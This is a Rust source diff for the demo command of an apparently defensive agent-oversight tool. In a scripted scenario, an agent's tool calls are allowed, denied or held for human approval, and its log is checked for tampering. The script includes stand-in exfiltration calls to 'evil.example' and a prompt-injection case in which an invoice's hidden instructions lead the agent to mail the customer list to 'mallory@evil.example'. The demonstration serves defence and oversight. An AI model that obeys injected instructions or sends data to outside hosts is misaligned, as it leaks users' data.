@@ -1,140 +1,212 @@
 //! `countersign demo`
 
 use std::fs;
-use std::path::{Path, PathBuf};
+use std::io::{BufRead as _, IsTerminal as _};
+use std::path::PathBuf;
 
 use clap::Args;
-use countersign_canon::{Json, Limits};
-use countersign_event::{EventType, Scope};
-use countersign_store::{Filter, Folder, Options, Store};
+use countersign_approval::{Decision, Reason};
+use countersign_canon::{Hash, Json, Limits};
+use countersign_event::{EventType, Line};
+use countersign_store::{Filter, Folder, Reader};
 use countersign_verify::{Expectation, Report, Selection};
 
-use super::log::{draft, view};
-use super::verify::{verify_folder, verify_lines};
+use super::verify::verify_folder;
 use crate::errors::{Code, Failure};
 use crate::exit::Exit;
-use crate::output;
+use crate::output::{self, inline};
 
-/// Records a sample session, verifies it, then tampers with copies of it to show what is found.
+mod agent;
+mod forgery;
+mod server;
+mod shop;
+
+use agent::{Agent, Answer};
+pub(crate) use server::DemoServer;
+use shop::Operator;
+
+/// Watch an agent at work: what it may do, what is stopped, what waits for you, and what is left to check.
+///
+/// A scripted agent talks to a small MCP server through the real proxy and engine. Nothing leaves this
+/// machine.
 #[derive(Args)]
+#[command(after_help = "\
+Examples:
+  countersign demo
+  countersign demo --yes-demo --data demo-data")]
 pub(crate) struct Demo {
     /// Where to keep the log [default: a new folder among the temporary files]
     #[arg(long, value_name = "DIR")]
     data: Option<PathBuf>,
+    /// Approve the payment without asking: for scripts
+    #[arg(long)]
+    yes_demo: bool,
 }
 
 impl Demo {
     pub(crate) fn run(self) -> Result<Exit, Failure> {
-        let folder = Folder::new(self.data.map_or_else(temporary, Ok)?);
-        let scope = Scope::new("default", SESSION)?;
-        let store = Store::open(&folder, Options::default())?;
-        let head = record(&store, &scope)?;
-        let shown = store.reader().page(&Filter::session(&scope), None, 100)?;
+        let folder = Folder::new(self.data.clone().map_or_else(temporary, Ok)?);
+        let (operator, manifest) = Operator::new(&folder)?;
+        let effects = shop::effects(folder.path());
+        let mut agent = Agent::start(folder.path(), &manifest, &effects)?;
+        say("An agent works in a shop, behind `countersign mcp`:\n")?;
+        self.play(&mut agent, &operator)?;
+        agent.leave()?;
+        tell_effects(&fs::read_to_string(&effects).unwrap_or_default())?;
+        let session = session(&folder)?;
+        let good = check(&folder, &session)?;
+        say(&next_steps(&folder, &session))?;
+        Ok(if good { Exit::Done } else { Exit::Unverified })
+    }
+
+    /// The script.
+    fn play(&self, agent: &mut Agent, operator: &Operator) -> Result<(), Failure> {
+        let list = || json(r#"{"of":"everything"}"#);
+        step("lists the catalogue", agent.call("catalog_list", list()?)?)?;
+        step(
+            "formats a disk, which nobody allowed",
+            agent.call("disk_format", json("{}")?)?,
+        )?;
+        let evil = json(r#"{"url":"https://evil.example/x","data":"prices"}"#)?;
+        step(
+            "posts to a host that is not listed",
+            agent.call("http_post", evil)?,
+        )?;
+        self.pay(r#"{"cents":4200,"to":"acme"}"#, true, agent, operator)?;
+        self.pay(r#"{"cents":420000,"to":"acme"}"#, false, agent, operator)?;
+        let invoice = json(r#"{"path":"invoice.txt"}"#)?;
+        step(
+            "reads an invoice that hides instructions",
+            agent.call("read_file", invoice)?,
+        )?;
+        let mail = json(r#"{"to":"mallory@evil.example","text":"customers"}"#)?;
+        step(
+            "obeys them and mails the customer list",
+            agent.call("mail_send", mail)?,
+        )?;
+        step(
+            "lists the catalogue again, in circles",
+            agent.call("catalog_list", list()?)?,
+        )
+    }
+
+    /// A payment, which the manifest leaves to a human.
+    fn pay(
+        &self,
+        args: &str,
+        is_right: bool,
+        agent: &mut Agent,
+        operator: &Operator,
+    ) -> Result<(), Failure> {
+        agent.begin("pay", json(args)?)?;
+        let standing = operator.waiting()?;
+        let code = standing.envelope.plan().hash().short();
         say(&format!(
-            "A sample agent session, recorded in {}:\n",
-            folder.path().display()
+            "  ⏸ {:<46} HOLD ⏸   code {code}",
+            "pays: the manifest asks for a human"
         ))?;
-        say(&view::table(&shown.events)?.text())?;
-        let lines: Vec<Vec<u8>> = shown.events.into_iter().map(|event| event.line).collect();
+        let decision = match (is_right, self.yes_demo) {
+            (true, true) => Decision::Approved,
+            (true, false) => ask(standing.rendering.text(), &code)?,
+            (false, _) => Decision::Denied(Reason::new("not the amount that was approved").ok()),
+        };
+        operator.decide(&standing, decision)?;
+        let what = match is_right {
+            true => "  the payment, with the bytes that were shown",
+            false => "  a hundred times the amount: another action",
+        };
+        step(what, agent.finish()?)
+    }
+}
 
-        say("\nWhat happens when somebody touches it:\n")?;
-        let untouched = verify_folder(&folder, &Selection::default(), &Expectation::default())?;
-        tell("nothing touched", &untouched)?;
-        for (what, forged, expectation) in forgeries(&lines, head) {
-            let copy = folder.path().join("demo-copy.jsonl");
-            let report = verify_copy(&copy, &forged, &expectation);
-            // The copy has served its purpose whatever came out of it.
-            let _ = fs::remove_file(&copy);
-            tell(what, &report?)?;
+/// Asks at the terminal. Enter alone is no.
+fn ask(shown: &str, code: &str) -> Result<Decision, Failure> {
+    if !std::io::stdin().is_terminal() {
+        return Ok(Decision::Denied(
+            Reason::new("nobody is at the terminal; see --yes-demo").ok(),
+        ));
+    }
+    say(&format!(
+        "\n{}\n\ntype `approve` to let exactly this run (code {code}), anything else denies:",
+        shown.trim_end()
+    ))?;
+    let mut typed = String::new();
+    std::io::stdin().lock().read_line(&mut typed)?;
+    Ok(match typed.trim() {
+        "approve" => Decision::Approved,
+        _ => Decision::Denied(None),
+    })
+}
+
+fn step(what: &str, answer: Answer) -> Result<(), Failure> {
+    say(&match answer {
+        Answer::Result(text) => {
+            let text: String = text.chars().take(SHOWN).collect();
+            format!("  ✓ {what:<46} ALLOW ✓  {}", inline(&text))
         }
-        say(&next_steps(&folder))?;
-        Ok(if untouched.is_good() {
-            Exit::Done
-        } else {
-            Exit::Unverified
-        })
-    }
+        Answer::Refused(reason) => format!("  ✗ {what:<46} DENY ✗   {reason}"),
+    })
 }
 
-/// The session as data: what an agent did in a shop.
-fn record(store: &Store, scope: &Scope) -> Result<countersign_canon::Hash, Failure> {
-    let mut head = None;
-    for (number, line) in STORY.lines().enumerate() {
-        let event = Json::admit(line.as_bytes(), &Limits::event())?;
-        let event_type = event.get("type").and_then(Json::as_str).unwrap_or_default();
-        let event_type: EventType = event_type
-            .parse()
-            .map_err(|error| Failure::new(Code::EventType, format!("{error} in line {number}")))?;
-        let payload = event.get("payload").cloned().unwrap_or(Json::Null);
-        head = Some(
-            store
-                .record(draft(event_type, payload, None, scope)?)?
-                .hash(),
-        );
-    }
-    head.ok_or_else(|| Failure::new(Code::NoEvent, "the sample session has no events"))
+/// What the server did: it does what reaches it.
+fn tell_effects(effects: &str) -> Result<(), Failure> {
+    let done: Vec<&str> = effects.lines().collect();
+    say(&format!("\nWhat reached the server: {}", done.join(", ")))
 }
 
-type Forgery = (&'static str, Vec<Vec<u8>>, Expectation);
-
-fn forgeries(lines: &[Vec<u8>], head: countersign_canon::Hash) -> Vec<Forgery> {
-    let kept = Expectation {
-        head: Some(head),
-        ..Expectation::default()
+/// The session of the agent, by the newest event that ends one.
+fn session(folder: &Folder) -> Result<String, Failure> {
+    let ends = Filter {
+        event_type: Some(EventType::Termination),
+        ..Filter::default()
     };
-    let edited = lines
-        .iter()
-        .map(|line| replace(line, b"TOOL_CALL_DENIED", b"TOOL_CALL_ALLOWED"));
-    let mut flipped = lines.to_vec();
-    if let Some(byte) = flipped.get_mut(4).and_then(|line| line.last_mut()) {
-        *byte ^= 1;
-    }
-    let removed = lines
-        .iter()
-        .enumerate()
-        .filter(|(index, _)| *index != 3)
-        .map(|(_, line)| line.clone());
-    let cut = lines
-        .split_last()
-        .map(|(_, rest)| rest.to_vec())
-        .unwrap_or_default();
-    vec![
-        (
-            "a denial turned into an allow",
-            edited.collect(),
-            Expectation::default(),
-        ),
-        ("one bit flipped", flipped, Expectation::default()),
-        (
-            "one event removed",
-            removed.collect(),
-            Expectation::default(),
-        ),
-        ("the end cut off, head known", cut, kept),
-    ]
+    let last = Reader::open(folder)?.last(&ends, 1)?;
+    let last = last
+        .first()
+        .ok_or_else(|| Failure::new(Code::Demo, "the session has no end"))?;
+    Ok(Line::read(&last.line)
+        .map_err(|error| Failure::new(Code::Demo, error.to_string()))?
+        .session_id
+        .into_owned())
 }
 
-fn verify_copy(
-    copy: &Path,
-    lines: &[Vec<u8>],
-    expectation: &Expectation,
-) -> Result<Report, Failure> {
-    let text: Vec<u8> = lines
-        .iter()
-        .flat_map(|line| line.iter().copied().chain([b'\n']))
-        .collect();
-    fs::write(copy, text)?;
-    verify_lines(&copy.to_string_lossy(), &Selection::default(), expectation)
+/// Verifies the log, then copies of it that somebody has touched.
+fn check(folder: &Folder, session: &str) -> Result<bool, Failure> {
+    say("\nWhat happens when somebody touches the log:\n")?;
+    let untouched = verify_folder(folder, &Selection::default(), &Expectation::default())?;
+    tell("nothing touched", &untouched)?;
+    let scope = countersign_event::Scope::new("default", session)?;
+    let events = Reader::open(folder)?
+        .page(&Filter::session(&scope), None, 1000)?
+        .events;
+    let lines: Vec<Vec<u8>> = events.into_iter().map(|event| event.line).collect();
+    let head: Option<Hash> = lines
+        .last()
+        .and_then(|line| Some(Line::read(line).ok()?.hash));
+    let head = head.ok_or_else(|| Failure::new(Code::Demo, "the session has no events"))?;
+    let mut all_found = true;
+    for (what, forged, expectation) in forgery::forgeries(&lines, head) {
+        let copy = folder.path().join("demo-copy.jsonl");
+        let report = forgery::verify_copy(&copy, &forged, &expectation);
+        // The copy has served its purpose whatever came out of it.
+        let _ = fs::remove_file(&copy);
+        let report = report?;
+        all_found &= !report.is_good();
+        tell(what, &report)?;
+    }
+    Ok(untouched.is_good() && all_found)
 }
 
-fn replace(line: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
-    match line.windows(from.len()).position(|window| window == from) {
-        Some(at) => {
-            let (before, rest) = line.split_at(at);
-            [before, to, rest.get(from.len()..).unwrap_or_default()].concat()
-        }
-        None => line.to_vec(),
-    }
+fn next_steps(folder: &Folder, session: &str) -> String {
+    let data = folder.path().display();
+    format!(
+        "\nnext:\n  countersign log list --data {data} --session {session}\n  \
+         countersign verify --data {data}\n  countersign mcp -- YOUR-MCP-SERVER"
+    )
+}
+
+fn json(text: &str) -> Result<Json, Failure> {
+    Ok(Json::admit(text.as_bytes(), &Limits::event())?)
 }
 
 fn tell(what: &str, report: &Report) -> Result<(), Failure> {
@@ -157,14 +229,6 @@ fn tell(what: &str, report: &Report) -> Result<(), Failure> {
     say(&format!("  {mark} {what:<30} {words}"))
 }
 
-fn next_steps(folder: &Folder) -> String {
-    let data = folder.path().display();
-    format!(
-        "\nnext:\n  countersign log show --data {data} --session {SESSION} --seq 1 --open\n  \
-         countersign log export --data {data} --session {SESSION}\n  countersign verify --data {data}"
-    )
-}
-
 fn say(text: &str) -> Result<(), Failure> {
     Ok(output::text(text)?)
 }
@@ -185,5 +249,5 @@ fn temporary() -> Result<PathBuf, Failure> {
         })
 }
 
-const SESSION: &str = "demo";
-const STORY: &str = include_str!("demo/story.jsonl");
+/// As much of a result as fits the line.
+const SHOWN: usize = 60;
